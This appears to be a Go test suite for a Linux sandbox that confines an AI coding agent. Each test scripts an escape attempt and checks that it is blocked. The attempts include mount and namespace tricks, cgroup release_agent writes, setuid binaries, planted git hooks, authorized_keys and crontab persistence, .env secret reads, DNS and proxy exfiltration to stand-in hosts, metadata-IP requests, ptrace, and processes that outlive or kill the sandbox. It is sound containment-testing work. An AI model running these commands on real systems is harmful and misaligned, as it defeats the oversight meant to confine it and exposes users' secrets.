//go:build linux

package sandbox_test

import (
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// attempts are the ways out that must not be. The number of each is its place.
var attempts = []func(*prison){
	attempt01, attempt02, attempt03, attempt04, attempt05, attempt06, attempt07, attempt08, attempt09, attempt10,
	attempt11, attempt12, attempt13, attempt14, attempt15, attempt16, attempt17, attempt18, attempt19, attempt20,
	attempt21, attempt22, attempt23, attempt24, attempt25, attempt26, attempt27, attempt28, attempt29, attempt30,
	attempt31, attempt32, attempt33, attempt34, attempt35, attempt36, attempt37, attempt38, attempt39, attempt40,
	attempt41, attempt42, attempt43, attempt44, attempt45, attempt46, attempt47, attempt48,
	attempt49, attempt50, attempt51, attempt52, attempt53, attempt54, attempt55, attempt56, attempt57,
}

// 1: plain writes outside.
func attempt01(p *prison) {
	p.works("echo fine > inside")
	p.holds(p.dir+"/inside", "fine\n")
	places := []string{"/usr/local/bin/escaped", "/etc/escaped", p.home + "/escaped", p.out + "/escaped", "/var/tmp/escaped-" + filepath.Base(p.base)}
	for _, f := range places {
		p.sh("echo x > " + f)
		p.attack("write", f)
	}
	p.sh("echo x >> " + p.out + "/file; rm -f " + p.out + "/file; mv " + p.out + "/file " + p.dir + "; truncate -s 0 " + p.out + "/file; chmod 777 " + p.out + "/file")
	p.absent(places...)
	p.holds(p.out+"/file", "mine\n")
	p.absent("/tmp/escaped-here")
	p.works("echo x > /tmp/escaped-here") // private
	p.absent("/tmp/escaped-here")
}

// 2: by other names of the same place.
func attempt02(p *prison) {
	rel, err := filepath.Rel(p.dir, p.out)
	if err != nil {
		p.t.Fatal(err)
	}
	for _, f := range []string{rel + "/x", "/proc/self/root" + p.out + "/x", "/proc/1/root" + p.out + "/x", "/proc/self/cwd/" + rel + "/x", "/proc/thread-self/root" + p.out + "/x"} {
		p.sh("echo x > " + f)
		p.attack("write", f)
	}
	p.absent(p.out + "/x")
}

// 3: through a symbolic link.
func attempt03(p *prison) {
	p.sh("ln -s /etc link; echo x > link/escaped; ln -s " + p.out + " out; echo x > out/escaped; echo x > out/file; ln -sf " + p.out + "/file f; echo x > f")
	p.absent("/etc/escaped", p.out+"/escaped")
	p.holds(p.out+"/file", "mine\n")
}

// 4: through a hard link.
func attempt04(p *prison) {
	p.attack("link", p.out+"/file", p.dir+"/file")
	p.sh("ln " + p.out + "/file hard && echo x > hard")
	p.holds(p.out+"/file", "mine\n")
}

// 5: by changing mounts.
func attempt05(p *prison) {
	p.cfg.DenyRead = []string{p.out}
	p.attack("remount")
	p.attack("umount", p.out)
	p.attack("movemount", p.out, p.dir)
	p.attack("newmount")
	p.sh("mount -o remount,rw,bind /; umount -l " + p.out + "; echo x > " + p.home + "/x; cat " + p.out + "/file > stolen")
	p.absent(p.home + "/x")
	if data, _ := os.ReadFile(p.dir + "/stolen"); len(data) > 0 {
		p.t.Errorf("read %q", data)
	}
}

// 6: by new namespaces.
func attempt06(p *prison) {
	p.attack("unshare")
	p.attack("clone")
	p.attack("clone3")
	out := p.sh("unshare -Urm sh -c 'mount -o remount,rw,bind /; echo x > " + p.out + "/x'; bwrap --dev-bind / / sh -c 'echo x > " + p.out + "/x' && echo nested")
	if strings.Contains(out, "nested") {
		p.t.Errorf("%s", out)
	}
	p.absent(p.out + "/x")
}

// 7: by devices.
func attempt07(p *prison) {
	p.attack("mknod", p.dir+"/disk")
	p.absent(p.dir + "/disk")
	for _, f := range []string{"/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/proc/kcore"} {
		p.attack("open", f)
	}
}

// 8: by the kernel's switches.
func attempt08(p *prison) {
	core, err := os.ReadFile("/proc/sys/kernel/core_pattern")
	if err != nil {
		p.t.Fatal(err)
	}
	for _, f := range []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
		"/sys/power/state", "/proc/sys/vm/drop_caches", "/proc/sys/fs/binfmt_misc/register",
	} {
		p.attack("open", f)
	}
	p.holds("/proc/sys/kernel/core_pattern", string(core))
}

// 9: by control groups.
func attempt09(p *prison) {
	p.works("mkdir cg")
	p.attack("cgroup", p.dir+"/cg")
	out := p.sh(`for f in $(find /sys/fs/cgroup -maxdepth 3 \( -name release_agent -o -name cgroup.procs -o -name notify_on_release \) 2>/dev/null); do (echo x > $f) 2>/dev/null && echo wrote $f; done; mkdir /sys/fs/cgroup/escaped && echo made`)
	if strings.Contains(out, "wrote") || strings.Contains(out, "made\n") || strings.HasSuffix(out, "made") {
		p.t.Errorf("%s", out)
	}
}

// 10: by a program with a set-user-id bit.
func attempt10(p *prison) {
	p.works("cp /bin/sh sh")
	for _, mode := range []string{"4755", "2755", "6755"} {
		p.attack("chmod", p.dir+"/sh", mode)
	}
	p.attack("fchmodat2", p.dir+"/sh")
	p.attack("opensuid", p.dir+"/made")
	p.attack("openat2suid", p.dir+"/made2")
	p.sh("chmod u+s sh; install -m4755 /bin/sh sh2; cp -p /usr/bin/passwd . ; cp -p /bin/su .; tar cf - /usr/bin/passwd | tar xpf -; mkdir -m 2777 d; python3 -c 'import os; os.chmod(\"sh\",0o4755)'; perl -e 'chmod 04755, \"sh\"'")
	err := filepath.Walk(p.dir, func(path string, st os.FileInfo, err error) error {
		if err == nil && st.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
			p.t.Errorf("%s has mode %v", path, st.Mode())
		}
		return err
	})
	if err != nil {
		p.t.Error(err)
	}
	p.works("chmod 700 sh && chmod +t . && chmod -t .")
}

// 11: by git's hooks and configuration.
func attempt11(p *prison) {
	p.git("init", "-q")
	p.put(p.dir+"/.git/hooks/pre-commit", "# mine\n")
	config, err := os.ReadFile(p.dir + "/.git/config")
	if err != nil {
		p.t.Fatal(err)
	}
	p.sh("echo evil >> .git/hooks/pre-commit; echo evil > .git/hooks/post-checkout; echo evil >> .git/config; git config core.pager evil; git config core.fsmonitor evil; echo '* filter=x' > .git/info/attributes; echo evil > .git/config.worktree; mkdir -p .git/hooks && cp /bin/true .git/hooks/pre-push; rm -rf .git/hooks; rm -f .git/config; ln -sf /bin/true .git/hooks/commit-msg")
	p.holds(p.dir+"/.git/hooks/pre-commit", "# mine\n")
	p.holds(p.dir+"/.git/config", string(config))
	p.absent(p.dir+"/.git/hooks/post-checkout", p.dir+"/.git/hooks/pre-push", p.dir+"/.git/hooks/commit-msg", p.dir+"/.git/info/attributes", p.dir+"/.git/config.worktree")
	p.works("git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git status --short && git log --oneline | wc -l")
}

// 12: by swapping .git.
func attempt12(p *prison) {
	p.git("init", "-q")
	p.sh("mv .git .git2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; git init --separate-git-dir=evil; rm -rf .git; cp -r .git g; mv g .git")
	p.attack("rename", p.dir+"/.git", p.dir+"/.git3")
	p.attack("rename", p.dir+"/.git/hooks", p.dir+"/h")
	p.absent(p.dir+"/.git2", p.dir+"/.git/hooks/pre-commit", p.dir+"/.git3")
	if st, err := os.Stat(p.dir + "/.git/config"); err != nil || st.Size() == 0 {
		p.t.Errorf("the repository is damaged: %v", err)
	}
}

// 13: by replacing .claude and .myelin.
func attempt13(p *prison) {
	for _, d := range []string{".claude", ".myelin"} {
		p.put(p.dir+"/"+d+"/settings.json", "{}\n")
		p.sh(fmt.Sprintf("rm -rf %[1]s; mkdir %[1]s; echo '{\"hooks\":1}' > %[1]s/settings.json; mv %[1]s gone; mkdir -p %[1]s/hooks; echo evil > %[1]s/hooks/x; echo evil > %[1]s/settings.local.json; mkdir -p %[1]s/skills/evil; echo evil > %[1]s/skills/evil/SKILL.md", d))
		p.holds(p.dir+"/"+d+"/settings.json", "{}\n")
		p.absent(p.dir+"/"+d+"/hooks", p.dir+"/"+d+"/settings.local.json", p.dir+"/"+d+"/skills", p.dir+"/gone")
	}
}

// 14: by making what was not there.
func attempt14(p *prison) {
	p.sh("mkdir -p .claude/skills .myelin; echo evil > .claude/settings.json; echo evil > .mcp.json; echo evil > .myelin/settings.json; mkdir .vscode; echo evil > .vscode/tasks.json; echo evil > .envrc; rmdir .mcp.json .claude; ln -s /etc .claude")
	p.noStubs()
	p.sh("echo evil > .bashrc; echo evil > .gitmodules; echo evil > .gitconfig; echo evil > .ripgreprc; echo evil > .envrc")
	p.absent(p.dir+"/.bashrc", p.dir+"/.gitmodules", p.dir+"/.gitconfig", p.dir+"/.ripgreprc")
	if got, _ := filepath.Glob(p.base + "/quarantine/*"); len(got) != 10 {
		p.t.Errorf("quarantine: %v", got)
	}
	p.noStubs()
}

// 15: by replacing a symbolic link at a protected place.
func attempt15(p *prison) {
	p.put(p.dir+"/real/settings.json", "{}\n")
	if err := os.Symlink("real", p.dir+"/.claude"); err != nil {
		p.t.Fatal(err)
	}
	p.sh("echo evil > .claude/settings.json; rm .claude; mkdir .claude; echo evil > .claude/settings.json")
	if to, err := os.Readlink(p.dir + "/.claude"); err != nil || to != "real" {
		p.t.Errorf("the link is %q, %v", to, err)
	}
	p.holds(p.dir+"/real/settings.json", "{}\n")
	if got, _ := filepath.Glob(p.base + "/quarantine/*/settings.json"); len(got) != 1 {
		p.t.Errorf("quarantine: %v", got)
	}
}

// 16: by turning the project into a repository.
func attempt16(p *prison) {
	out := p.sh("mkdir -p objects refs hooks; echo 'ref: refs/heads/x' > HEAD; printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = touch " + p.out + "/escaped\\n' > config")
	p.absent(p.dir+"/HEAD", p.dir+"/objects", p.dir+"/refs", p.dir+"/config", p.dir+"/hooks")
	if !strings.Contains(out, "HEAD") || !strings.Contains(out, "sandbox_violations") {
		p.t.Errorf("nobody is told: %s", out)
	}
	cmd := exec.Command("git", "-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "status")
	cmd.Dir = p.dir
	_ = cmd.Run() // not a repository, as it should be
	p.absent(p.out + "/escaped")
	p.works("mkdir objects config hooks") // ordinary names, alone
	if _, err := os.Stat(p.dir + "/config"); err != nil {
		p.t.Error("an ordinary folder was put aside")
	}
}

// 17: by what runs at the next login.
func attempt17(p *prison) {
	p.sh("echo evil >> ~/.bashrc; echo evil >> ~/.ssh/authorized_keys; echo evil > ~/.config/autostart/x.desktop; echo evil > ~/.profile; (crontab -l; echo '* * * * * evil') | crontab -")
	p.holds(p.home+"/.bashrc", "# mine\n")
	p.holds(p.home+"/.ssh/authorized_keys", "mine\n")
	p.absent(p.home+"/.config/autostart/x.desktop", p.home+"/.profile")
}

// 18: by reading what may not be read.
func attempt18(p *prison) {
	p.put(p.out+"/vault/key", "secret-one\n")
	p.put(p.dir+"/.env", "secret-two\n")
	p.put(p.dir+"/sub/.env", "secret-three\n")
	p.put(p.out+"/open/in/here", "not secret\n")
	if err := os.Symlink(p.out+"/vault", p.dir+"/way"); err != nil {
		p.t.Fatal(err)
	}
	p.cfg.DenyRead = []string{p.out + "/vault/", p.dir + "/**/.env", p.out + "/open", p.out + "/not-there"}
	p.cfg.AllowRead = []string{p.out + "/open/in"}
	for _, c := range []string{
		"cat " + p.out + "/vault/key", "cat " + p.out + "/v*/*", "cat way/key", "cat .env", "cat sub/.env", "cd sub; cat .env", "cp .env x; cat x",
		"cat < .env", "exec 3< .env; cat /proc/self/fd/3", "cat /proc/self/root" + p.out + "/vault/key", "cat /proc/1/root" + p.out + "/vault/key",
		"grep -r secret . " + p.out, "tar cf - " + p.out + " .", "mv .env y; cat y", "ln .env z; cat z", "find / -name key -path '" + p.base + "/*vault*' -exec cat {} + 2>/dev/null",
	} {
		if out := p.sh(c); strings.Contains(out, "secret-") {
			p.t.Errorf("%s: %s", c, out)
		}
	}
	if out := p.works("cat " + p.out + "/open/in/here"); !strings.Contains(out, "not secret") {
		p.t.Errorf("what was opened again is closed: %s", out)
	}
	p.holds(p.dir+"/.env", "secret-two\n")
}

// 19: directly to the network.
func attempt19(p *prison) {
	tg := newTarget(p.t)
	p.attack("connect", "tcp", "1.1.1.1:80")
	p.attack("connect", "tcp", "[2606:4700:4700::1111]:80")
	p.attack("connect", "tcp", tg.Listener.Addr().String())
	out := p.sh(fmt.Sprintf("(echo hi > /dev/tcp/127.0.0.1/%d) && echo through; (echo > /dev/udp/1.1.1.1/53) && echo sent", tg.port))
	if strings.Contains(out, "through") || tg.hits.Load() != 0 {
		p.t.Errorf("%s", out)
	}
	for _, family := range []int{unix.AF_NETLINK, unix.AF_PACKET, unix.AF_VSOCK, unix.AF_ALG} {
		p.attack("socket", strconv.Itoa(family))
	}
}

// 20: by names.
func attempt20(p *prison) {
	w := &worldNet{}
	p.cfg.Network = w.config()
	p.attack("udp", "1.1.1.1:53")
	p.attack("udp", "127.0.0.53:53")
	p.attack("connect", "tcp", "1.1.1.1:853")
	p.attack("lookup", "secret-data.example.com")
	p.sh("getent hosts secret-data.example.com")
	out := p.sh(attacker + "get http://secret-data.unlisted.test/")
	if !strings.Contains(out, "403") {
		p.t.Errorf("%s", out)
	}
	p.sh(attacker + "get https://more-data.unlisted.test/")
	if got := w.lookups(); len(got) != 0 {
		p.t.Errorf("looked up: %v", got)
	}
}

// 21: to services of the host.
func attempt21(p *prison) {
	tg := newTarget(p.t)
	w := &worldNet{leads: map[string]string{"allowed.test": "127.0.0.1"}}
	p.cfg.Network = w.config()
	p.attack("connect", "tcp", "169.254.169.254:80")
	for _, host := range []string{"127.0.0.1", "localhost", "169.254.169.254", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "allowed.test"} {
		out := p.sh(fmt.Sprintf("NO_PROXY= no_proxy= %s raw 127.0.0.1:61128 %s _", attacker, hexLine("GET http://%s:%d/ HTTP/1.1\r\nHost: %s:%d\r\n\r\n", host, tg.port, host, tg.port)))
		if !strings.Contains(out, "403") {
			p.t.Errorf("%s: %s", host, out)
		}
	}
	if tg.hits.Load() != 0 {
		p.t.Error("reached")
	}
	w.local = true
	if out := p.works(fmt.Sprintf("%s get http://allowed.test:%d/ok", attacker, tg.port)); !strings.Contains(out, "reached as allowed.test") {
		p.t.Errorf("what is allowed does not work: %s", out)
	}
}

func hexLine(format string, args ...any) string {
	return hex.EncodeToString(fmt.Appendf(nil, format, args...))
}

// 22: to hosts that look like allowed ones.
func attempt22(p *prison) {
	tg := newTarget(p.t)
	w := &worldNet{local: true, leads: map[string]string{}}
	hosts := []string{
		"unlisted.test", "allowed.com.evil.test", "allowed.test.evil.test", "evilallowed.test", "allowed.tést", "аllowed.test", "2130706433", "0x7f000001",
		"0177.0.0.1", "127.1", "127.0.0.1", "allowed.test@evil.test", "evil.test#allowed.test", "evil.test?.allowed.test", "evil.test\\.allowed.test", "allowed%2etest",
	}
	for _, h := range hosts {
		w.leads[h] = "127.0.0.1"
	}
	w.leads["allowed.test"], w.leads["sub.allowed.test"] = "127.0.0.1", "127.0.0.1"
	p.cfg.Network = w.config()
	for _, h := range hosts {
		for _, request := range []string{"GET http://%s:%d/ HTTP/1.1\r\nHost: %s:%d\r\n\r\n", "CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n"} {
			out := p.sh(attacker + "raw 127.0.0.1:61128 " + hexLine(request, h, tg.port, h, tg.port) + " _")
			if !strings.Contains(out, "403") {
				p.t.Errorf("%s: %s", h, out)
			}
		}
	}
	if tg.hits.Load() != 0 || len(w.lookups()) != 0 {
		p.t.Errorf("%d reached, looked up %v", tg.hits.Load(), w.lookups())
	}
	for _, h := range []string{"allowed.test", "ALLOWED.test.", "Sub.Allowed.Test"} {
		if out := p.works(fmt.Sprintf("%s get http://%s:%d/", attacker, h, tg.port)); !strings.Contains(out, "reached") {
			p.t.Errorf("%s: %s", h, out)
		}
	}
}

// 23: by requests that two readers read differently.
func attempt23(p *prison) {
	tg := newTarget(p.t)
	w := &worldNet{local: true, leads: map[string]string{"allowed.test": "127.0.0.1", "evil.test": "127.0.0.1"}}
	p.cfg.Network = w.config()
	port := []byte{byte(tg.port >> 8), byte(tg.port)}
	socks := func(name string) string {
		return "050100 _ " + hex.EncodeToString(append(append([]byte{5, 1, 0, 3, byte(len(name))}, name...), port...)) + " _"
	}
	for _, name := range []string{"evil.test\x00.allowed.test", "evil.test\n.allowed.test", "evil test.allowed.test", "evil.test", "\x7fevil.test", "allowed.test\x00"} {
		out := p.sh(attacker + "raw 127.0.0.1:61080 " + socks(name))
		if !strings.Contains(out, `\x05\x02`) {
			p.t.Errorf("%q: %s", name, out)
		}
	}
	big := "GET http://allowed.test/ HTTP/1.1\r\nX: " + strings.Repeat("a", 40) + "\r\n"
	for name, raw := range map[string]string{
		"other Host":        fmt.Sprintf("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n", tg.port, tg.port),
		"second Host":       fmt.Sprintf("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\nHost: evil.test\r\n\r\n", tg.port, tg.port),
		"origin form":       fmt.Sprintf("GET / HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", tg.port),
		"https in absolute": "GET https://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
		"user in authority": fmt.Sprintf("GET http://allowed.test@evil.test:%d/ HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n", tg.port, tg.port),
		"bare CR":           fmt.Sprintf("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\rX: y\r\n\r\n", tg.port, tg.port),
		"folded":            fmt.Sprintf("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n evil\r\n\r\n", tg.port, tg.port),
	} {
		if out := p.sh(attacker + "raw 127.0.0.1:61128 " + hex.EncodeToString([]byte(raw)) + " _"); !strings.Contains(out, "403") {
			p.t.Errorf("%s: %s", name, out)
		}
	}
	if tg.hits.Load() != 0 {
		p.t.Error("reached")
	}
	head := hex.EncodeToString([]byte(big))
	if out := p.sh(attacker + "raw 127.0.0.1:61128 " + strings.TrimSuffix(strings.Repeat(head+" ", 1000), " ") + " _"); !strings.Contains(out, "431") {
		p.t.Errorf("oversized: %.300s", out)
	}
	two := fmt.Sprintf("GET http://allowed.test:%d/first HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\nGET http://evil.test:%d/second HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n", tg.port, tg.port, tg.port, tg.port)
	if out := p.sh(attacker + "raw 127.0.0.1:61128 " + hex.EncodeToString([]byte(two)) + " _"); strings.Contains(out, "second") || !strings.Contains(out, "first") {
		p.t.Errorf("two on one connection: %s", out)
	}
	if out := p.works(attacker + "raw 127.0.0.1:61080 " + socks("allowed.test") + " " + hexLine("GET /s HTTP/1.0\r\nHost: allowed.test\r\n\r\n")); !strings.Contains(out, "reached as allowed.test") {
		p.t.Errorf("SOCKS to an allowed host: %s", out)
	}
}

// 24: by an allowed name that leads inside.
func attempt24(p *prison) {
	tg := newTarget(p.t)
	w := &worldNet{leads: map[string]string{}}
	p.cfg.Network = w.config()
	for _, addr := range []string{"127.0.0.1", "10.1.2.3", "192.168.0.1", "172.16.0.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "::1", "fd00::1", "fe80::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "224.0.0.1"} {
		w.mu.Lock()
		w.leads["allowed.test"] = addr
		w.mu.Unlock()
		if out := p.sh(fmt.Sprintf("%s get http://allowed.test:%d/", attacker, tg.port)); !strings.Contains(out, "403") {
			p.t.Errorf("%s: %s", addr, out)
		}
	}
	if tg.hits.Load() != 0 {
		p.t.Error("reached")
	}
}

// 25: by local sockets.
func attempt25(p *prison) {
	path := p.out + "/service.sock"
	l, err := net.Listen("unix", path)
	if err != nil {
		p.t.Fatal(err)
	}
	defer l.Close()
	abstract, err := net.Listen("unix", "@"+filepath.Base(p.base))
	if err != nil {
		p.t.Fatal(err)
	}
	defer abstract.Close()
	got := make(chan string, 4)
	for _, l := range []net.Listener{l, abstract} {
		go func() {
			if c, err := l.Accept(); err == nil {
				got <- l.Addr().String()
				c.Close()
			}
		}()
	}
	p.attack("unixpath", path)
	p.attack("unixpath", "@"+filepath.Base(p.base))
	p.attack("unixpath", "/var/run/docker.sock")
	p.attack("socket", strconv.Itoa(unix.AF_UNIX))
	p.attack("sockethigh")
	select {
	case who := <-got:
		p.t.Errorf("%s was reached", who)
	default:
	}
	p.cfg.UnixSockets = true
	p.works(attacker + "unixpath " + path)
}

// 26: by other kinds of system calls.
func attempt26(p *prison) {
	if out := p.attack("x32"); !strings.Contains(out, "not permitted") { // and not just unknown to this kernel
		p.t.Errorf("%s", out)
	}
	p.attack("iouring")
	// A program of a few bytes that makes socket(AF_UNIX) as a 32-bit call, and exits with 42 if that
	// worked.
	code := []byte{
		0xb8, 0x67, 0x01, 0x00, 0x00, // mov eax, 359 (socket of i386)
		0xbb, 0x01, 0x00, 0x00, 0x00, // mov ebx, 1
		0xb9, 0x01, 0x00, 0x00, 0x00, // mov ecx, 1
		0x31, 0xd2, // xor edx, edx
		0xcd, 0x80, // int 0x80
		0xbf, 0x2a, 0x00, 0x00, 0x00, // mov edi, 42
		0x85, 0xc0, // test eax, eax
		0x79, 0x05, // jns +5
		0xbf, 0x07, 0x00, 0x00, 0x00, // mov edi, 7
		0xb8, 0x3c, 0x00, 0x00, 0x00, // mov eax, 60 (exit)
		0x0f, 0x05, // syscall
	}
	if err := os.WriteFile(p.dir+"/int80", elf(code), 0o755); err != nil {
		p.t.Fatal(err)
	}
	bare := exec.Command(p.dir + "/int80").Run()
	if bare == nil || !strings.Contains(bare.Error(), "42") {
		p.t.Fatalf("outside of the sandbox the program must work: %v", bare)
	}
	if out := p.sh("./int80"); !strings.Contains(out, "SIGSYS") && !strings.Contains(out, "159") {
		p.t.Errorf("%s", out)
	}
}

// elf makes a program of x86-64 machine code (elf(5)): one header, one segment.
func elf(code []byte) []byte {
	const base, head = 0x400000, 64 + 56
	size := uint64(head + len(code))
	le := func(v uint64, n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(v >> (8 * i))
		}
		return b
	}
	var out []byte
	add := func(bs ...[]byte) {
		for _, b := range bs {
			out = append(out, b...)
		}
	}
	add([]byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0}, le(2, 2), le(62, 2), le(1, 4))
	add(le(base+head, 8), le(64, 8), le(0, 8), le(0, 4), le(64, 2), le(56, 2), le(1, 2), le(0, 2), le(0, 2), le(0, 2))
	add(le(1, 4), le(5, 4), le(0, 8), le(base, 8), le(base, 8), le(size, 8), le(size, 8), le(0x1000, 8))
	return append(out, code...)
}

// 27: by reaching into other processes.
func attempt27(p *prison) {
	us := strconv.Itoa(os.Getpid())
	for _, pid := range []string{"1", us, strconv.Itoa(os.Getppid())} {
		p.attack("ptrace", pid)
		p.attack("vmwrite", pid)
	}
	out := p.sh("ls /proc/" + us + "/mem 2>/dev/null && echo seen; (echo x > /proc/1/mem) 2>/dev/null; cat /proc/1/environ | tr '\\0' '\\n'; echo alive")
	if strings.Contains(out, "seen") || !strings.Contains(out, "alive") {
		p.t.Errorf("%s", out)
	}
	// What lies in the memory of the sandbox's own first process gains nothing: still confined.
	p.sh("(printf x | dd of=/proc/1/mem bs=1 seek=4194304 conv=notrunc) 2>/dev/null; echo x > " + p.out + "/x")
	p.absent(p.out + "/x")
}

// 28: by signals.
func attempt28(p *prison) {
	victim := exec.Command("sleep", "331")
	if err := victim.Start(); err != nil {
		p.t.Fatal(err)
	}
	defer func() {
		if err := victim.Process.Signal(syscall.SIGKILL); err != nil {
			p.t.Errorf("the victim is gone: %v", err)
		}
		_ = victim.Wait()
	}()
	pid := strconv.Itoa(victim.Process.Pid)
	p.attack("kill", pid)
	p.attack("signal0", strconv.Itoa(os.Getpid())) // harmless where it worked
	p.sh("kill -9 " + pid + "; pkill -9 -f 'sleep 33[1]'; kill -9 -" + pid)
	if err := victim.Process.Signal(syscall.Signal(0)); err != nil {
		p.t.Errorf("the victim is gone: %v", err)
	}
}

// 29: through the terminal.
func attempt29(p *prison) {
	p.attack("tiocsti")
	out := p.sh("tty; ls -l /proc/self/fd/0; (echo evil > /dev/tty) && echo wrote; (exec 3</dev/tty) && echo opened; echo evil > /dev/pts/0 && echo pts")
	if strings.Contains(out, "wrote") || strings.Contains(out, "opened") || strings.Contains(out, "\npts") {
		p.t.Errorf("%s", out)
	}
	if !strings.Contains(out, "/dev/null") {
		p.t.Errorf("input is not the null device: %s", out)
	}
}

// 30: by what was inherited.
func attempt30(p *prison) {
	secret, err := os.Open(p.out + "/file")
	if err != nil {
		p.t.Fatal(err)
	}
	defer secret.Close()
	p.t.Setenv("SSH_AUTH_SOCK", "/nowhere/agent")
	p.t.Setenv("MODEL_API_KEY", "key-secret")
	p.t.Setenv("SERVICE_TOKEN", "token-secret")
	p.t.Setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nowhere")
	p.t.Setenv("DOCKER_HOST", "unix:///nowhere")
	p.attack("fds")
	out := p.sh("env; ls /proc/self/fd; cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'")
	for _, bad := range []string{"key-secret", "token-secret", "SSH_AUTH_SOCK", "DBUS_SESSION", "DOCKER_HOST"} {
		if strings.Contains(out, bad) {
			p.t.Errorf("%s is inside", bad)
		}
	}
	if !strings.Contains(out, "IS_SANDBOX=1") {
		p.t.Errorf("%s", out)
	}
}

// 31: by outliving the command.
func attempt31(p *prison) {
	mark := filepath.Base(p.base)
	p.sh("setsid sleep 332 & nohup sleep 332 >/dev/null 2>&1 & (setsid sh -c 'exec -a " + mark + " sleep 332' &) ; (sleep 2; touch " + p.dir + "/later) & disown; echo started")
	if out, err := exec.Command("pgrep", "-af", "^sleep 332|"+mark+" 332").CombinedOutput(); err == nil {
		p.t.Errorf("lives on: %s", out)
	}
	p.sh("echo 'touch " + p.out + "/x' | at now; systemd-run --user touch " + p.out + "/x; systemd-run touch " + p.out + "/x; echo '* * * * * root touch /x' > /etc/cron.d/x")
	p.absent(p.out+"/x", "/etc/cron.d/x", p.dir+"/later")
}

// 35: by killing what confines.
func attempt35(p *prison) {
	done := make(chan string, 1)
	go func() { done <- p.sh("echo ready > ready; sleep 333; echo x > survived") }()
	waitFor(p.t, func() bool { _, err := os.Stat(p.dir + "/ready"); return err == nil })
	killed := 0
	for _, live := range p.owner.Live() {
		if syscall.Kill(live.Info().PID, syscall.SIGKILL) == nil {
			killed++
		}
	}
	out := <-done
	if killed != 1 || !strings.HasPrefix(out, "Exit code 137") {
		p.t.Errorf("killed %d: %s", killed, out)
	}
	p.absent(p.dir + "/survived")
	if out, err := exec.Command("pgrep", "-af", "^sleep 333$").CombinedOutput(); err == nil {
		p.t.Errorf("lives on: %s", out)
	}
	p.sh("echo x > " + p.out + "/x")
	p.absent(p.out + "/x")
	p.noStubs()
	// A backend that is no sandbox at all is never taken for one.
	p.put(p.base+"/fake", "#!/bin/sh\nif [ \"$1\" = --version ]; then echo bubblewrap 0.8.0; exit; fi\nwhile [ \"$1\" != -- ]; do shift; done; shift 5; exec \"$@\"\n")
	if err := os.Chmod(p.base+"/fake", 0o755); err != nil {
		p.t.Fatal(err)
	}
	p.cfg.Bwrap = p.base + "/fake"
	if out := p.sh("echo x > " + p.out + "/x"); !strings.Contains(out, "not started") {
		p.t.Errorf("%s", out)
	}
	p.absent(p.out + "/x")
}

func waitFor(t *testing.T, done func() bool) {
	t.Helper()
	for limit := time.Now().Add(20 * time.Second); !done(); {
		if time.Now().After(limit) {
			t.Fatal("waited in vain")
		}
	}
}
